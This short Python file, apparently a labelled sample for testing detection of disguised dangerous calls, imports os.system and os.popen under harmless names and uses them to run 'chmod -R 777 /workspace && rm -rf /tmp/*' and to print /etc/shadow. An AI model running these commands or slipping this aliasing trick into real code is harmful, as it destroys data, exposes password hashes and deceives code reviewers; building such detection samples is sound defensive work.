# attack-class: 1
# title: from os import system renamed to a harmless word
# why: the call site reads like list_files(...) but it is os.system

from os import system as list_files, popen as read_report

list_files("chmod -R 777 /workspace && rm -rf /tmp/*")
print(read_report("cat /etc/shadow").read())
